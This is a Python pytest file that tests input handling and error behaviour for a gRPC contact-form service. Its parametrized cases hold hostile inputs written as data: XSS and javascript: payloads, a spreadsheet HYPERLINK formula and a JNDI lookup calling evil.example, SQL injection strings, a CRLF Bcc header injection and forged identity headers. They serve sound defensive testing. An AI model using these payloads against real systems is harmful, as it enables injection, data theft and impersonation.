"""What people and programs put into the form: it is kept as text, cleaned, or refused by name; never half done."""

import asyncio
import time
from typing import Any

import grpc
import pytest
from services.channels.tests.conftest import STATUS_TOKEN_KEY, Running, StartChannels, form
from services.channels.tests.faulty_network import Link

from channels.settings import Settings
from fte.channels.v1 import channels_service_pb2 as pb
from meshkit.testing import refused, settings_for

INVALID = grpc.StatusCode.INVALID_ARGUMENT


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        '<svg onload="alert(1)"><a href="javascript:alert(1)">',
        '=HYPERLINK("http://evil.example","click")',
        "+1+1",
        "@SUM(A1)",
        "'; drop table inbound; --",
        "\\'; select pg_sleep(10); --",
        "%s %(name)s {0} ${jndi:ldap://evil.example}",
        "👩‍👩‍👧‍👦 é 中文 \U0001f1e9\U0001f1ea",
    ],
)
async def test_text_that_means_something_to_other_programs_is_text_here(channels: Running, text: str) -> None:
    await (await channels.stub()).SubmitForm(form(name=text, subject=text, message=text))
    (fact,) = await channels.received()
    assert (fact.sender.display_name, fact.subject, fact.text) == (text, text, text)
    assert await channels.count("inbound") == 1


async def test_bidi_and_zero_width_characters_are_taken_out(channels: Running) -> None:
    deceptive = "in\u202evoice\u2066 \u200bpay\ufeffment\u2069"
    await (await channels.stub()).SubmitForm(form(name=deceptive, subject=deceptive, message=deceptive))
    (fact,) = await channels.received()
    assert {fact.sender.display_name, fact.subject, fact.text} == {"invoice payment"}


@pytest.mark.parametrize("field", ["name", "subject", "message"])
async def test_nul_is_refused_by_field(channels: Running, field: str) -> None:
    failure = await refused((await channels.stub()).SubmitForm(form(**{field: "a\0b"})))
    assert (failure.code, [violation.field for violation in failure.violations]) == (INVALID, [field])


@pytest.mark.parametrize("field", ["name", "subject"])
async def test_a_line_break_does_not_get_into_a_line(channels: Running, field: str) -> None:
    failure = await refused((await channels.stub()).SubmitForm(form(**{field: "a\r\nBcc: all@techcorp.example"})))
    assert [violation.field for violation in failure.violations] == [field]
    await (await channels.stub()).SubmitForm(form(**{field: "a\u2028b"}))
    (fact,) = await channels.received()
    assert "a b" in (fact.subject, fact.sender.display_name)


async def test_every_field_that_breaks_a_rule_is_named_at_once(channels: Running) -> None:
    empty = pb.SubmitFormRequest(name="", email="ada", subject="x" * 201, category="Not A Slug", message="x" * 10_001)
    failure = await refused((await channels.stub()).SubmitForm(empty))
    assert failure.code is INVALID
    assert {violation.field for violation in failure.violations} == {"name", "email", "subject", "category", "message"}


@pytest.mark.parametrize("address", ["ada@localhost", "ada@techcorp.test", "a..b@techcorp.example", "x@[127.0.0.1]"])
async def test_an_address_that_cannot_exist_is_refused(channels: Running, address: str) -> None:
    failure = await refused((await channels.stub()).SubmitForm(form(email=address)))
    assert (failure.code, [violation.field for violation in failure.violations]) == (INVALID, ["email"])
    assert await channels.count("inbound") == 0


async def test_an_unknown_priority_is_refused(channels: Running) -> None:
    raw = form().SerializeToString() + b"\x28\x63"
    failure = await refused((await channels.stub()).SubmitForm(pb.SubmitFormRequest.FromString(raw)))
    assert [violation.field for violation in failure.violations] == ["priority"]


async def test_bytes_that_are_no_form_are_refused(channels: Running) -> None:
    call: Any = channels.server.channel.unary_unary("/fte.channels.v1.ChannelsService/SubmitForm")
    for raw in (b"\xff\xff\xff", form().SerializeToString()[:-3], b"\x0a\x02\xc3\x28"):
        with pytest.raises(grpc.aio.AioRpcError) as error:
            await call(raw)
        assert error.value.code() is INVALID


async def test_a_message_of_five_megabytes_is_refused_unread(channels: Running) -> None:
    failure = await refused((await channels.stub()).SubmitForm(form(message="x" * 5_000_000)))
    assert failure.code is grpc.StatusCode.RESOURCE_EXHAUSTED


async def test_the_longest_message_is_taken_whole(channels: Running) -> None:
    longest = "\U0001f600" * 10_000
    await (await channels.stub()).SubmitForm(form(message=longest))
    assert [fact.text for fact in await channels.received()] == [longest]


async def test_cleaning_takes_time_that_grows_with_the_text_alone(channels: Running) -> None:
    # The worst that fits: combining marks, which composing has to sort.
    began = time.process_time()
    await (await channels.stub()).SubmitForm(form(message="a" + "\u0323\u0301" * 4_999))
    assert time.process_time() - began < 2


async def test_forged_identity_metadata_makes_nobody_of_the_public(channels: Running) -> None:
    forged = (("x-staff-sub", "ada"), ("x-jwt-payload", "e30"), ("x-fte-caller", "staff"))
    failure = await refused(
        (await channels.stub()).ListInboundMessages(pb.ListInboundMessagesRequest(), metadata=forged)
    )
    assert failure.code is grpc.StatusCode.UNAUTHENTICATED


async def test_a_locked_table_ends_in_an_error_in_time_and_nothing_half_done(start_channels: StartChannels) -> None:
    channels = await start_channels(database_timeout_seconds=0.3)
    customer = await channels.stub()
    async with channels.database.transaction() as connection:
        await connection.execute("lock table inbound in access exclusive mode")
        failure = await refused(customer.SubmitForm(form(), metadata=(("idempotency-key", "k"),)))
    assert (failure.code, failure.reason) == (grpc.StatusCode.UNAVAILABLE, "DEPENDENCY_UNAVAILABLE")
    await customer.SubmitForm(form(), metadata=(("idempotency-key", "k"),))
    assert await channels.count("inbound") == len(await channels.received()) == 1


async def test_without_postgres_a_form_is_not_accepted_and_later_it_is(
    postgres_link: tuple[Link, str], start_channels: StartChannels
) -> None:
    link, address = postgres_link
    channels = await start_channels(database_url=address, database_timeout_seconds=1.0)
    customer = await channels.stub()
    await link.cut()
    for _ in range(3):
        failure = await refused(customer.SubmitForm(form()))
        assert (failure.code, failure.reason) == (grpc.StatusCode.UNAVAILABLE, "DEPENDENCY_UNAVAILABLE")
        assert "127.0.0.1" not in str(failure)
    await link.mend()
    await customer.SubmitForm(form())
    assert await channels.count("inbound") == len(await channels.received()) == 1


async def test_a_caller_that_goes_away_leaves_all_or_nothing(channels: Running) -> None:
    customer = await channels.stub()
    calls = [customer.SubmitForm(form()) for _ in range(50)]
    for number, call in enumerate(calls):
        await asyncio.sleep(0)
        if number % 2:
            call.cancel()
    await asyncio.gather(*calls, return_exceptions=True)
    assert await channels.count("inbound") == len(await channels.received()) >= 25


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("status_token_key", "short"),
        ("public_url", "http://techcorp.example/path"),
        ("public_url", "techcorp.example"),
        ("categories", ""),
        ("categories", "Not A Slug"),
        ("enabled_channels", "fax"),
        ("trusted_gateways", "somewhere"),
        ("messages_per_sender_hour", "-1"),
    ],
)
def test_a_setting_that_cannot_be_meant_is_refused(name: str, value: str) -> None:
    with pytest.raises(ValueError, match=name):
        settings_for(Settings, **{"status_token_key": STATUS_TOKEN_KEY, name: value})


def test_lists_come_comma_separated() -> None:
    settings = settings_for(
        Settings, status_token_key=STATUS_TOKEN_KEY, categories="a, b", trusted_gateways="10.0.0.0/8,fd00::/8"
    )
    assert settings.categories == ("a", "b")
    assert [str(network) for network in settings.trusted_gateways] == ["10.0.0.0/8", "fd00::/8"]
